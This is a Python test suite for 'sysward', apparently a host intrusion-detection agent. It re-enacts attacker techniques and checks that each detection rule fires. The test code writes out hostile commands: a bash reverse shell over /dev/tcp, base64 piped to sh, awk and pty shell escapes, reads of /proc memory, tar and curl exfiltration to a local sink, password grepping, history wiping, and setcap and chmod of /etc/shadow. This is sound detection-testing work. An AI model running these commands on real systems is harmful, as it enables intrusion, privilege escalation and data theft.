"""Real re-enactments of attack behaviours (issue 12) against ``sysward run`` with its
default rules: each one does the real thing with the real tools of this machine (a
dropped binary run from /tmp, base64 piped into sh, awk system("/bin/sh"), /proc/PID/mem
read, setcap, an encrypted zip...), and the alert of the rule written for that behaviour
must arrive.  Everything stays inside private temporary directories, network traffic goes
to 127.0.0.1 only, and nothing on the host is changed for good (modes and kernel settings
are written back with the values they had).
"""

from __future__ import annotations

import base64
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from agent_harness import AgentProcess

from sysward.rules.packaged import PACKAGED_RULES_DIR


@dataclass
class Scene:
    """Where a re-enactment runs: a private dir below /tmp (hidden, one level deep, as
    payloads are dropped), the marker its commands carry, a local TCP sink."""

    marker: str
    drop: Path  # /tmp/.sw-MARKER
    work: Path  # a pytest temporary directory
    port: int  # a listening 127.0.0.1 port that accepts and drains


def _sh(cmd: str, timeout: float = 15, **kw: Any) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["sh", "-c", cmd], capture_output=True, text=True, timeout=timeout,
                          stdin=subprocess.DEVNULL, **kw)


def _need(*tools: str) -> None:
    missing = [t for t in tools if shutil.which(t) is None]
    if missing:
        pytest.skip(f"{', '.join(missing)} not installed")


# ---------------------------------------------------------------------- re-enactments
# Each returns nothing; the marker must appear in the alert's output.


def dropped_binary_run_from_tmp(s: Scene) -> None:
    exe = s.drop / "payload"
    shutil.copy("/bin/true", exe)
    subprocess.run([str(exe), s.marker], check=True, timeout=10)


def masquerade_as_daemon(s: Scene) -> None:
    exe = s.drop / "crond"
    shutil.copy("/bin/true", exe)
    subprocess.run([str(exe), s.marker], check=True, timeout=10)


def masquerade_as_kernel_thread(s: Scene) -> None:
    _sh(f'exec -a "[kworker/0:1]" /bin/sleep 0 {s.marker}')
    shutil.copy("/bin/true", s.drop / "kworker")
    subprocess.run([str(s.drop / "kworker"), s.marker], check=True, timeout=10)


def double_extension(s: Scene) -> None:
    exe = s.work / "invoice.pdf"
    shutil.copy("/bin/true", exe)
    subprocess.run([str(exe), s.marker], check=True, timeout=10)


def base64_piped_to_shell(s: Scene) -> None:
    payload = base64.b64encode(f"true {s.marker}\n".encode()).decode()
    _sh(f"echo {payload} | base64 -d | sh # {s.marker}")


def awk_shell_escape(s: Scene) -> None:
    _need("awk")
    _sh(f"awk 'BEGIN {{ m = \"{s.marker}\"; system(\"/bin/sh\") }}' < /dev/null")


def python_pty_spawn(s: Scene) -> None:
    code = f"import pty  # {s.marker}\npty.spawn('/bin/sh')"
    subprocess.run([sys.executable, "-c", code], input="exit\n", text=True, timeout=15,
                   capture_output=True)


def proc_mem_read(s: Scene) -> None:
    victim = subprocess.Popen(["sleep", "30"])
    try:
        deadline = time.monotonic() + 5
        while (os.readlink(f"/proc/{victim.pid}/exe") == os.path.realpath(sys.executable)
               and time.monotonic() < deadline):
            time.sleep(0.02)
        code = (f"import sys  # {s.marker}\n"
                f"maps = open('/proc/{victim.pid}/maps').read().splitlines()\n"
                f"f = open('/proc/{victim.pid}/mem', 'rb')\n"
                "lo = int(maps[0].split('-')[0], 16); f.seek(lo); f.read(16)\n")
        subprocess.run([sys.executable, "-c", code], check=True, timeout=10)
    finally:
        victim.kill()
        victim.wait()


def grep_for_passwords(s: Scene) -> None:
    d = s.work / s.marker
    d.mkdir()
    (d / "app.conf").write_text("password=hunter2\n")
    _sh(f"grep -ri password {d}")


def history_read(s: Scene) -> None:
    (s.work / s.marker).mkdir()
    hist = s.work / s.marker / ".bash_history"
    hist.write_text("mysql -p hunter2\n")
    _sh(f"cat {hist} | grep -e pass -e {s.marker}")


def history_wiped_by_shell(s: Scene) -> None:
    hist = s.drop / ".bash_history"
    hist.write_text("ls\n")
    _sh(f"cat /dev/null > {hist}; : {s.marker}")


def history_disabled(s: Scene) -> None:
    _sh(f"export HISTFILESIZE=0; true {s.marker}")


def su_to_other_user(s: Scene) -> None:
    _need("su")
    _sh(f"su nobody -s /bin/sh -c 'true {s.marker}'")


def account_tool(s: Scene) -> None:
    _need("useradd")
    # --help: the exec is what the rule sees; no account is created on a shared host.
    _sh(f"useradd --help > /dev/null; : {s.marker}")
    _sh(f"useradd --help {s.marker}")


def setcap_file(s: Scene) -> None:
    _need("setcap")
    target = s.drop / f"py-{s.marker}"
    shutil.copy("/bin/true", target)
    _sh(f"setcap cap_setuid+ep {target}")


def chattr_immutable(s: Scene) -> None:
    _need("chattr")
    target = s.work / f"locked-{s.marker}"
    target.write_text("x")
    # lock, then unlock (an intruder's chattr -i needs a locked file to mean anything)
    _sh(f"chattr +i {target}; chattr -i {target}")


def prctl_rename_like_kthread(s: Scene) -> None:
    # a script names its process like a kernel thread (prctl PR_SET_NAME)
    code = ("import ctypes\n"
            "ctypes.CDLL(None, use_errno=True).prctl(15, b'kworker/0:2', 0, 0, 0)\n"
            f"# {s.marker}\n")
    subprocess.run([sys.executable, "-c", code], check=True, timeout=15)


def chmod_sensitive(s: Scene) -> None:
    # the same mode written back: a real chmod of /etc/shadow that changes nothing
    mode = oct(os.stat("/etc/shadow").st_mode & 0o7777)[2:]
    _sh(f"chmod {mode} /etc/shadow; : {s.marker}")
    _sh(f"chmod --reference=/etc/shadow /etc/shadow {s.marker} 2>/dev/null; true")


def chmod_exec_in_tmp(s: Scene) -> None:
    f = s.drop / f"stage-{s.marker}"
    f.write_text("#!/bin/sh\ntrue\n")
    _sh(f"chmod +x {f}")


def aslr_write(s: Scene) -> None:
    path = "/proc/sys/kernel/randomize_va_space"
    cur = Path(path).read_text().strip()
    _sh(f"echo {cur} > {path}; : {s.marker}")
    _need("setarch")
    _sh(f"setarch x86_64 -R true {s.marker}")


def timestomp(s: Scene) -> None:
    f = s.work / f"file-{s.marker}"
    f.write_text("x")
    _sh(f"touch -a -m -t 197001010000.00 {f}")


def hidden_dir_in_var_tmp(s: Scene) -> None:
    d = Path("/var/tmp") / f".sw-{s.marker}"
    try:
        _sh(f"mkdir {d}")
    finally:
        shutil.rmtree(d, ignore_errors=True)


def encrypted_zip(s: Scene) -> None:
    _need("zip")
    (s.work / "loot.txt").write_text("secret\n")
    _sh(f"cd {s.work} && zip -P s3cret loot-{s.marker}.zip loot.txt")


def openssl_encrypt(s: Scene) -> None:
    _need("openssl")
    (s.work / "loot.txt").write_text("secret\n")
    _sh(f"openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in {s.work}/loot.txt "
        f"-out {s.work}/loot-{s.marker}.enc")


def adhoc_http_server(s: Scene) -> None:
    (s.work / s.marker).mkdir()
    srv = subprocess.Popen([sys.executable, "-m", "http.server", "0", "--bind", "127.0.0.1",
                            "--directory", str(s.work / s.marker)], stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL, cwd=s.work)
    time.sleep(0.5)
    srv.terminate()
    srv.wait(5)


def curl_upload(s: Scene) -> None:
    _need("curl")
    (s.work / "loot.txt").write_text("secret\n")
    _sh(f"curl -s -m 3 -F f=@{s.work}/loot.txt http://127.0.0.1:{s.port}/{s.marker}")


def tar_to_network(s: Scene) -> None:
    _need("curl", "tar")
    _sh(f"tar cf - -C {s.work} . | curl -s -m 3 -T - http://127.0.0.1:{s.port}/{s.marker}")


def suid_search(s: Scene) -> None:
    _sh(f"find {s.work} -perm -4000 -name '*{s.marker}*'")


def reverse_shell(s: Scene) -> None:
    _need("bash")
    _sh(f"bash -c 'true {s.marker}; bash -i >& /dev/tcp/127.0.0.1/{s.port} 0>&1'",
        timeout=20)


@dataclass(frozen=True)
class Case:
    rule: str
    run: Callable[[Scene], None]


CASES: dict[str, Case] = {
    "dropped-binary": Case("Program Executed from Temporary Directory",
                           dropped_binary_run_from_tmp),
    "daemon-name": Case("System Daemon Name Run from Unexpected Location",
                        masquerade_as_daemon),
    "kthread-name": Case("Kernel Thread Name Used by Program", masquerade_as_kernel_thread),
    "prctl-name": Case("Process Renamed Like a Kernel Thread or Daemon",
                       prctl_rename_like_kthread),
    "double-extension": Case("Executable with Document Extension", double_extension),
    "base64-to-sh": Case("Decoded or Downloaded Content Piped to Shell", base64_piped_to_shell),
    "awk-escape": Case("Shell Spawned by Interpreter or Pager", awk_shell_escape),
    "pty-spawn": Case("Shell Spawned by Interpreter or Pager", python_pty_spawn),
    "proc-mem": Case("Process Memory Read Through Proc Filesystem", proc_mem_read),
    "grep-passwords": Case("Search for Passwords or Credential Files", grep_for_passwords),
    "history-read": Case("Shell History Read by Another Program", history_read),
    "history-wiped": Case("Shell History Truncated", history_wiped_by_shell),
    "history-off": Case("Shell History Disabled by Environment", history_disabled),
    "su-other": Case("Switch to Another User with su", su_to_other_user),
    "account-tool": Case("Local Account Created", account_tool),
    "setcap": Case("File Capabilities Set", setcap_file),
    "chattr": Case("Immutable or Append-Only Attribute Changed", chattr_immutable),
    "chmod-shadow": Case("Permissions Changed on Sensitive File", chmod_sensitive),
    "chmod-x-tmp": Case("Executable Permission Set in Temporary Directory", chmod_exec_in_tmp),
    "aslr": Case("Security Kernel Setting Weakened", aslr_write),
    "timestomp": Case("File Timestamps Forged with Touch", timestomp),
    "hidden-var-tmp": Case("Hidden File Created in System Directory", hidden_dir_in_var_tmp),
    "zip-password": Case("Archive or File Encrypted with a Password", encrypted_zip),
    "openssl-enc": Case("Archive or File Encrypted with a Password", openssl_encrypt),
    "http-server": Case("Ad-hoc Web Server Started by Interpreter", adhoc_http_server),
    "curl-upload": Case("File Uploaded with Command-Line HTTP Client", curl_upload),
    "tar-to-net": Case("Data Streamed to Network Tool", tar_to_network),
    "suid-search": Case("Search for Setuid Files or Capabilities", suid_search),
}


class Sink:
    """A 127.0.0.1 listener that accepts every connection, sends `exit` (a reverse shell
    connecting here ends at once) and drains what arrives."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = int(self.sock.getsockname()[1])
        self._t = threading.Thread(target=self._serve, daemon=True)
        self._t.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._drain, args=(conn,), daemon=True).start()

    @staticmethod
    def _drain(conn: socket.socket) -> None:
        with conn:
            conn.settimeout(5)
            try:
                conn.sendall(b"exit\n")
                while conn.recv(65536):
                    pass
            except OSError:
                pass

    def close(self) -> None:
        self.sock.close()


# The default rules except what programs run under a build tool do (sw_build_activity:
# builds run their probes and test binaries in temporary directories).  These tests run
# under one by construction -- `make test` starts pytest -- and sysward's process table
# keeps make as an ancestor of everything they start, so that exception would hide every
# re-enactment of a rule that carries it.  The exception itself is tested by the near-miss
# cases of tests/unit/own_rules_cases.yaml (a touch -r under make, a cargo build...).
_NOT_A_BUILD = """\
- macro: sw_build_activity
  condition: (proc.name = sw-no-build-tool-in-these-tests)
  override:
    condition: replace
"""


@pytest.fixture(scope="module")
def agent(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AgentProcess]:
    tmp = tmp_path_factory.mktemp("agent")
    override = tmp / "not-a-build.yaml"
    override.write_text(_NOT_A_BUILD)
    ag = AgentProcess(tmp, "--rules", str(PACKAGED_RULES_DIR), "--rules", str(override),
                      grouping=True)
    yield ag
    ag.stop()


@pytest.fixture(scope="module")
def sink() -> Iterator[Sink]:
    s = Sink()
    yield s
    s.close()


@pytest.fixture
def scene(tmp_path: Path, sink: Sink, request: pytest.FixtureRequest) -> Iterator[Scene]:
    marker = f"swb{os.getpid()}x{abs(hash(request.node.name)) % 10**6}"
    drop = Path("/tmp") / f".sw-{marker}"
    drop.mkdir()
    try:
        yield Scene(marker, drop, tmp_path, sink.port)
    finally:
        shutil.rmtree(drop, ignore_errors=True)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", list(CASES))
def test_behaviour_raises_its_alert(name: str, agent: AgentProcess, scene: Scene) -> None:
    case = CASES[name]
    case.run(scene)
    # the store: with grouping on (the default), a repeat of a rule in this test process's
    # tree is stored, not printed
    agent.wait_stored(case.rule, lambda o: scene.marker in o, timeout=10)


@pytest.mark.timeout(60)
def test_reverse_shell_is_one_alert_not_a_storm(agent: AgentProcess, scene: Scene) -> None:
    # bash -i >& /dev/tcp/...: the shell and every helper its rc files run duplicate the
    # socket; grouping makes that one notification, and the store keeps every occurrence.
    reverse_shell(scene)
    rule = "Standard Stream Redirected to Network Socket"

    def ours(output: str) -> bool:  # the sink's end of the connection, either way round
        return (f"127.0.0.1:{scene.port}->" in output
                or f"->127.0.0.1:{scene.port} " in output)

    agent.wait_alert(rule, lambda a: ours(a["output"]), timeout=10)
    deadline = time.monotonic() + 10
    stored: list[tuple[int, str]] = []
    while time.monotonic() < deadline and len(stored) < 2:
        stored = agent.wait_stored(rule, ours)
        time.sleep(0.2)
    notified = [a for a in list(agent.alerts) if a["rule"] == rule and ours(a["output"])]
    assert len(notified) == 1, [a["output"] for a in notified]
    assert len(stored) >= 2, stored  # the repeats are kept ...
    assert sum(s for s, _ in stored) == len(stored) - 1  # ... marked, all but the first

